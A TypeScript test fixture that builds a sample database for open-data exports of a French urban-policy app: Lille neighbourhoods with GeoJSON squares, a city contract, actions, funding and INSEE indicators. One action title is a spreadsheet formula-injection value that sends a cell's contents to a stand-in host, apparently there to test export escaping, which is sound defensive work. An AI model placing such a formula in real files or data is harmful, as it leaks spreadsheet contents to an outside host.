// The data both open data test files read: each file builds its own world from it.
import { createAction, createContract, createNeighbourhood, createOrganisation, createPriority, createSite } from "../../../test/factories.js";
import { createTestWorld, type TestWorld } from "../../../test/helpers.js";

// A square in Lille, counter-clockwise as RFC 7946 wants exterior rings.
export const square = (lon: number, lat: number) => [
  [lon, lat],
  [lon + 0.01, lat],
  [lon + 0.01, lat + 0.01],
  [lon, lat + 0.01],
  [lon, lat],
];

/** A test world with two QPV (one with a perimeter), a quartier, a commune, three actions and indicators. */
export async function createOpenDataWorld(): Promise<TestWorld> {
  const w = await createTestWorld();
  await createSite(w.db);
  const ouest = await createNeighbourhood(w.db, { kind: "qpv", code: "QN05901M", name: "Secteur Ouest", slug: "secteur-ouest" });
  await createNeighbourhood(w.db, { kind: "qpv", code: "QN05902M", name: "Secteur Nord", slug: "secteur-nord" });
  const centre = await createNeighbourhood(w.db, { kind: "quartier", name: "Centre", slug: "centre" });
  await createNeighbourhood(w.db, { kind: "commune", code: "59298", name: "Hellemmes", slug: "hellemmes" });
  await w.db
    .updateTable("neighbourhoods")
    .set({
      geometry: JSON.stringify({ type: "Polygon", coordinates: [square(3.05, 50.62)] }),
      population: 8200,
      commune_codes: ["59350"],
      geometry_source: "ANCT",
      geometry_updated_at: "2025-02-03T10:00:00Z",
    })
    .where("id", "=", ouest.id)
    .execute();
  await w.db
    .updateTable("neighbourhoods")
    .set({ geometry: JSON.stringify({ type: "MultiPolygon", coordinates: [[square(3.06, 50.63)], [square(3.08, 50.63)]] }) })
    .where("id", "=", centre.id)
    .execute();

  const contract = await createContract(w.db, { name: "Contrat de ville 2024-2030" });
  const priority = await createPriority(w.db, { contractId: contract.id, slug: "emploi-od", title: "Emploi" });
  const other = await createPriority(w.db, { contractId: contract.id, slug: "sante-od", title: "Santé" });
  const lead = await createOrganisation(w.db, { slug: "centre-social-od", name: "Centre social" });
  const p1 = await createOrganisation(w.db, { slug: "mission-locale-od", name: "Mission locale" });
  const p2 = await createOrganisation(w.db, { slug: "bailleur-od", name: "Bailleur, Habitat" });
  await createAction(w.db, {
    slug: "action-formule",
    title: '=HYPERLINK("http://evil.example/?"&A1)',
    priorityId: priority.id,
    leadId: lead.id,
    partnerIds: [p1.id, p2.id],
    neighbourhoodIds: [ouest.id, centre.id],
    progress: 40,
    isExample: true,
    startDate: "2025-01-01",
    endDate: "2025-12-31",
    funding: [
      { funder: "etat", amount: 12000.5, year: 2024 },
      { funder: "metropole", amount: 8000, year: 2025 },
    ],
    milestones: [{ date: "2025-03-01", title: "Lancement", done: true }],
  });
  await createAction(w.db, {
    slug: "action-terminee",
    title: "Action terminée",
    priorityId: other.id,
    status: "completed",
    progress: 100,
    startDate: "2019-01-01",
    endDate: "2020-12-31",
    funding: [{ funder: "caf", amount: 500, year: 2019 }],
  });
  await createAction(w.db, { slug: "action-a-venir", title: "Action à venir", priorityId: other.id, status: "planned", progress: 0, partnerIds: [p1.id] });
  await w.db
    .insertInto("indicators")
    .values([
      {
        metric: "taux_pauvrete",
        label: "Taux de pauvreté",
        territory_kind: "qpv",
        territory_code: "QN05901M",
        territory_name: "Secteur Ouest",
        year: 2021,
        value: "42.5000",
        unit: "%",
        source: "INSEE",
      },
      {
        metric: "taux_pauvrete",
        label: "Taux de pauvreté",
        territory_kind: "commune",
        territory_code: "59350",
        territory_name: "Lille",
        year: 2021,
        value: "25.1000",
        unit: "%",
        source: "INSEE",
      },
      {
        metric: "population",
        label: "Population",
        territory_kind: "qpv",
        territory_code: "QN05901M",
        territory_name: "Secteur Ouest",
        year: 2020,
        value: "8200",
        unit: "habitants",
        source: "INSEE",
      },
    ])
    .execute();
  return w;
}
